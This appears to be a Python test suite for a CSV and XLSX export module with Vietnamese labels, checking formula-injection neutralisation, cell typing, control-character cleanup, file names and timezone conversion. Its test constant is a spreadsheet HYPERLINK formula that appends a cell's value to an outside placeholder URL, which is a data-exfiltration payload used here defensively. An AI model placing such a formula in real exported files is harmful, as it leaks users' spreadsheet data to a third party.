import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from kc_common.exports import csv_cell, csv_line, from_csv_text, xlsx_row, xlsx_text

FORMULA = '=HYPERLINK("http://x"&B2,"x")'


def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote():
    for text in (FORMULA, "+84 912 345 678", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    for text in ("Sơn mài", "a=b", " =1", "", "84-912"):
        assert csv_cell(text) == text


def test_csv_numbers_dates_and_booleans_stay_as_they_are():
    assert csv_cell(-5) == -5 and csv_cell(-1.5) == -1.5 and csv_cell(Decimal("-2")) == -2
    assert csv_cell(None) == "" and csv_cell(True) == "true"
    assert csv_cell(date(2024, 1, 2)) == "2024-01-02"
    line = csv_line([FORMULA, -5, "x"])
    assert line.endswith("\r\n")
    assert next(csv.reader(io.StringIO(line))) == ["'" + FORMULA, "-5", "x"]


def test_an_importer_reads_back_what_was_exported():
    for text in (FORMULA, "+84 912", "plain", "'quoted"):
        assert from_csv_text(csv_cell(text)) == text


def test_xlsx_text_is_a_string_cell_never_a_formula_and_never_an_error():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    when = datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)
    values = [FORMULA, "a\x01b\x00c", "-1", -5, 2.5, True, None, date(2024, 1, 2), when, "Đồng"]
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    cells = next(load_workbook(out)["x"].iter_rows())
    assert cells[0].value == FORMULA and cells[0].data_type == "s"
    assert cells[1].value == "a\ufffdb\ufffdc" and cells[1].data_type == "s"
    assert cells[2].value == "-1" and cells[2].data_type == "s"
    assert cells[3].value == -5 and cells[3].data_type == "n"
    assert cells[4].value == 2.5 and cells[5].value is True and cells[6].value is None
    assert cells[7].value == datetime(2024, 1, 2) and cells[8].value == when.replace(tzinfo=None)
    assert cells[9].value == "Đồng"
    assert not any(c.data_type == "f" for c in cells)


def test_xlsx_text_keeps_tab_and_line_breaks():
    assert xlsx_text("a\tb\nc\r\n") == "a\tb\nc\r\n"
    assert xlsx_text("\x0b\x1f") == "\ufffd\ufffd"


# --- column specs, CSV stream, XLSX document, file names ------------------------------------

from kc_common.exports import (  # noqa: E402
    Column,
    content_disposition,
    csv_stream,
    export_filename,
    xlsx_document,
)

COLUMNS = [
    Column("Tên", "name"),
    Column("Loại hình", "kind", labels={"enterprise": "Doanh nghiệp"}),
    Column("Công nghiệp nông thôn", "rural"),
    Column("Kinh phí", "amount", kind="money"),
    Column("Ngày thành lập", "founded", kind="date"),
    Column("Thời điểm", "at", kind="datetime"),
    Column("Mã hồ sơ", lambda row: row["id"]),
]
ROWS = [
    {
        "name": FORMULA,
        "kind": "enterprise",
        "rural": True,
        "amount": 1_250_000_000,
        "founded": date(2012, 3, 15),
        "at": datetime(2024, 5, 6, 20, 0, tzinfo=UTC),
        "id": "a1",
    },
    {
        "name": "bell\x07 and NUL\x00",
        "kind": "unheard_of",
        "rural": False,
        "amount": None,
        "founded": None,
        "at": None,
        "id": "a2",
    },
]


async def _rows():
    for row in ROWS:
        yield row


async def test_csv_stream_has_a_bom_vietnamese_labels_and_neutralised_cells():
    data = b"".join([chunk async for chunk in csv_stream(COLUMNS, _rows())])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == [c.header for c in COLUMNS]
    assert rows[1] == [
        "'" + FORMULA,
        "Doanh nghiệp",
        "Có",
        "1250000000",
        "2012-03-15",
        "2024-05-07 03:00:00",  # Vietnam time
        "a1",
    ]
    assert rows[2][1] == "unheard_of" and rows[2][2] == "Không" and rows[2][3] == ""


async def test_xlsx_document_types_and_formats_cells():
    book = load_workbook(io.BytesIO(await xlsx_document(COLUMNS, _rows(), sheet="Doanh nghiệp")))
    sheet = book["Doanh nghiệp"]
    header, first, second = list(sheet.iter_rows())
    assert [c.value for c in header] == [c.header for c in COLUMNS]
    assert all(c.font.bold for c in header)
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 10
    assert first[0].value == FORMULA and first[0].data_type == "s"
    assert first[1].value == "Doanh nghiệp" and first[2].value == "Có"
    assert first[3].value == 1_250_000_000 and first[3].number_format == "#,##0"
    assert first[4].value == datetime(2012, 3, 15) and first[4].number_format == "dd/mm/yyyy"
    assert first[4].is_date and first[5].value == datetime(2024, 5, 7, 3, 0)
    assert second[0].value == "bell\ufffd and NUL\ufffd" and second[1].value == "unheard_of"
    assert not any(c.data_type == "f" for row in (first, second) for c in row)


def test_file_names_are_dated_and_rfc_6266():
    assert export_filename("doanh-nghiep", "xlsx", date(2026, 11, 30)) == (
        "doanh-nghiep-2026-11-30.xlsx"
    )
    header = content_disposition("sổ-cái-2026-11-30.csv")
    assert header == (
        'attachment; filename="so-cai-2026-11-30.csv"; '
        "filename*=UTF-8''s%E1%BB%95-c%C3%A1i-2026-11-30.csv"
    )
    assert header.isascii()


def test_a_timestamp_sqlite_gave_back_without_its_zone_is_shown_in_vietnam_time():
    # SQLite returns a Core `DateTime(timezone=True)` column naive; it was stored in UTC
    column = Column("Thời điểm ghi sổ", "created_at", kind="datetime")
    naive = {"created_at": datetime(2020, 12, 15, 14, 54)}
    aware = {"created_at": datetime(2020, 12, 15, 14, 54, tzinfo=UTC)}
    assert column.of(naive) == column.of(aware) == datetime(2020, 12, 15, 21, 54)
